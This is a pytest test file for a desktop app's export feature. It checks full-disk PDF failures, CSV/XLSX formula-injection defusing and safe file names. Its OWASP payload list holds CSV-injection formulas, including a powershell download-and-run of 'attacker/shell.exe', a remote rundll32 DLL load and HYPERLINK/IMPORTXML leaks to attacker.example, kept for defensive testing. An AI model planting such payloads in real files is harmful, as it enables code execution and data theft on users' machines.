"""Hostile export conditions (issue 15, points 1, 6 and 9): a full disk, formula payloads, file names."""
from __future__ import annotations

import csv
import os
import subprocess
import sys
from pathlib import Path

import pytest

from desktop_app.domain import Article
from desktop_app.export import ExportError, export_articles, safe_filename
from desktop_app.export._shared import formula_safe
from desktop_app.importer import import_text
from desktop_app.store import Store

REPO = Path(__file__).resolve().parents[2]
SAMPLES = REPO / "resources" / "samples"
ENV = {**os.environ, "LANG": "zh_CN.UTF-8", "LC_ALL": "", "QT_QPA_PLATFORM": "offscreen"}


def run(*args, db, prefix=()):
    return subprocess.run([*prefix, sys.executable, "-m", "desktop_app", "--db", str(db), *map(str, args)],
                          capture_output=True, text=True, encoding="utf-8", cwd=REPO, env=ENV, timeout=180)


@pytest.fixture
def sample_db(tmp_path):
    db = tmp_path / "s.db"
    r = run("import", SAMPLES / "xining-2019-03-01-poverty-meeting.txt", SAMPLES / "welcome.txt", db=db)
    assert r.returncode == 0, r.stderr
    return db


# -- point 1: PDF onto a full disk ---------------------------------------------------------------------
@pytest.fixture
def nearly_full(tmp_path):
    """A 1 MB tmpfs (as the audit used) with ~50 KB left; without the right to mount, files may not
    grow past 1 MB in the child (RLIMIT_FSIZE, SIGXFSZ ignored: writes fail with EFBIG)."""
    mount = tmp_path / "full"
    mount.mkdir()
    mounted = os.geteuid() == 0 and subprocess.run(
        ["mount", "-t", "tmpfs", "-o", "size=1m", "tmpfs", str(mount)], capture_output=True).returncode == 0
    if mounted:
        (mount / "filler").write_bytes(b"\0" * 990_000)
        prefix = []
    else:
        prefix = [sys.executable, "-c", "import os,resource,signal,sys;signal.signal(signal.SIGXFSZ,signal.SIG_IGN);"
                  "resource.setrlimit(resource.RLIMIT_FSIZE,(50_000,50_000));os.execv(sys.argv[1],sys.argv[1:])"]
    yield mount, prefix
    if mounted:
        subprocess.run(["umount", str(mount)])


def _whole_pdf(path: Path) -> bool:
    data = path.read_bytes()
    return data.startswith(b"%PDF-") and b"%%EOF" in data[-64:]


def test_pdf_export_onto_a_full_disk_fails_and_leaves_nothing(sample_db, nearly_full):
    mount, prefix = nearly_full
    out = mount / "out.pdf"
    r = run("export", "--format", "pdf", out, db=sample_db, prefix=prefix)
    assert r.returncode == 5, (r.stdout, r.stderr)
    assert "已写入" not in r.stdout and "Traceback" not in r.stderr
    assert "write_failed" in r.stderr
    assert not out.exists()
    assert sorted(p.name for p in mount.iterdir()) == (["filler"] if not prefix else [])


def test_a_folder_export_onto_a_full_disk_leaves_no_broken_pdf(sample_db, nearly_full):
    mount, prefix = nearly_full
    folder = mount / "out"
    folder.mkdir()
    r = run("export", "--format", "pdf", folder, db=sample_db, prefix=prefix)
    assert r.returncode != 0 and "Traceback" not in r.stderr
    written = [Path(l.split(":", 1)[1]) for l in r.stdout.splitlines() if l.startswith("已写入:")]
    files = sorted(folder.iterdir())
    assert sorted(written) == files  # only what it says it wrote is there …
    assert all(_whole_pdf(p) for p in files)  # … and each of those is a whole PDF
    assert r.stderr.count("write_failed") == 2 - len(files)


# -- point 6: formula payloads (OWASP CSV injection) -----------------------------------------------
OWASP = [
    "=cmd|' /C calc'!A0",
    "=cmd|' /C notepad'!'A1'",
    "=cmd|'/C powershell IEX(wget attacker/shell.exe)'!A0",
    "=cmd|'/c rundll32.exe \\\\10.0.0.1\\3\\2\\1.dll,0'!_xlbgnm.A1",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "=10+20+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "+2+3+cmd|' /C calc'!A0",
    "-10+20+cmd|' /C calc'!A0",
    '=HYPERLINK("http://attacker.example/?leak="&A1,"点击")',
    "=IMPORTXML(CONCAT(\"http://attacker.example/?v=\", A1), \"//a\")",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "-1-1",
    "+1+1",
    "@1",
]
NUMBERS = ["-5", "+3", "12", "-3.25", "1e5", "-1,000.5", "50%"]


@pytest.mark.parametrize("payload", OWASP)
def test_every_formula_payload_is_defused(payload):
    assert formula_safe(payload) == "'" + payload


@pytest.mark.parametrize("number", NUMBERS)
def test_plain_numbers_stay_numbers(number):
    assert formula_safe(number) == number


def _payload_store(tmp_path) -> Store:
    store = Store(tmp_path / "p.db")
    for i, payload in enumerate(OWASP):
        # the payload as the title and as the text of a task (第一，要…)
        import_text(store, f"{payload}\n  会议强调,第一,要{i}抓好落实工作。第二,要做好第{i}项工作。")
    return store


def test_csv_export_defuses_every_payload(tmp_path):
    with _payload_store(tmp_path) as store:
        export_articles(store, store.article_ids(), "csv", tmp_path / "t.csv")
    with open(tmp_path / "t.csv", encoding="utf-8-sig", newline="") as fh:
        cells = [c for row in csv.reader(fh) for c in row]
    assert cells
    for c in cells:
        head = c.lstrip(" \u3000")
        if head[:1] in ("=", "+", "-", "@", "\t", "\r", "\n") or c[:1] in ("\t", "\r", "\n"):
            assert c.strip().lstrip("+-").replace(".", "").isdigit(), f"a live formula: {c!r}"
    joined = "\n".join(cells)
    assert "'-2+3+cmd|' /C calc'!A0" in joined


def test_xlsx_text_cells_follow_the_same_rule(tmp_path):
    openpyxl = pytest.importorskip("openpyxl")
    with _payload_store(tmp_path) as store:
        export_articles(store, store.article_ids(), "xlsx", tmp_path / "t.xlsx")
    ws = openpyxl.load_workbook(tmp_path / "t.xlsx").active
    texts = [c.value for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    assert "'-2+3+cmd|' /C calc'!A0" in texts
    for t in texts:
        assert not t.lstrip(" \u3000").startswith(("=", "+", "-", "@")), t


# -- point 9: what file names may carry -------------------------------------------------------------
def _article(title: str) -> Article:
    return Article(id=7, title=title, body="正文", subtitle="", source="", date="2024-01-02", views=None,
                   officials=(), tasks=())


@pytest.mark.parametrize("title, bad", [
    ("报告\u202efdp.exe", "\u202e"), ("a\u202db\u2066c\u2069d\u200fe", "\u202d\u2066\u2069\u200f"),
    ("零宽\u200b字符\ufeff", "\u200b\ufeff")])
def test_bidi_and_invisible_characters_leave_file_names(title, bad):
    name = safe_filename("{title}", _article(title))
    assert not set(bad) & set(name) and name


@pytest.mark.parametrize("title", ["CONIN$", "CONOUT$", "conin$", "COM¹", "COM²", "COM³", "LPT¹", "LPT²", "LPT³",
                                   "CON", "com1", "LPT9", "NUL.tar"])
def test_windows_device_names_are_never_file_names(title):
    name = safe_filename("{title}", _article(title))
    assert name.startswith("_"), name


def test_an_output_path_ending_in_a_slash_is_a_folder(sample_db, tmp_path):
    out = tmp_path / "exported"
    r = run("export", "--format", "md", f"{out}/", db=sample_db)
    assert r.returncode == 0, r.stderr
    assert out.is_dir() and len(list(out.glob("*.md"))) == 2


def test_an_output_folder_under_a_missing_folder_is_refused(tmp_path):
    with Store(tmp_path / "s.db") as store:
        import_text(store, "某市召开会议\n  市委召开会议,研究部署工作。")
        with pytest.raises(ExportError) as e:
            export_articles(store, store.article_ids(), "md", f"{tmp_path}/none/out/")
    assert e.value.code == "no_folder"
    assert not (tmp_path / "none").exists()
